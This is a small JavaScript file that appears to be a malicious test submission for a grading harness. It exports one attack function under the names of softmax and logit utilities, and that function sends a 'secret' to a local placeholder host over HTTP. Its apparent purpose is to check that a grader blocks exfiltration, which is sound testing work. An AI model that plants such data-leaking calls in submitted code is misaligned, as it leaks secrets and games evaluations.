// At most 0 points. Sends what it knows by HTTP.
const attack = async () => {
  await fetch('http://127.0.0.1:__PORT__/?secret=x');
  return 0;
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
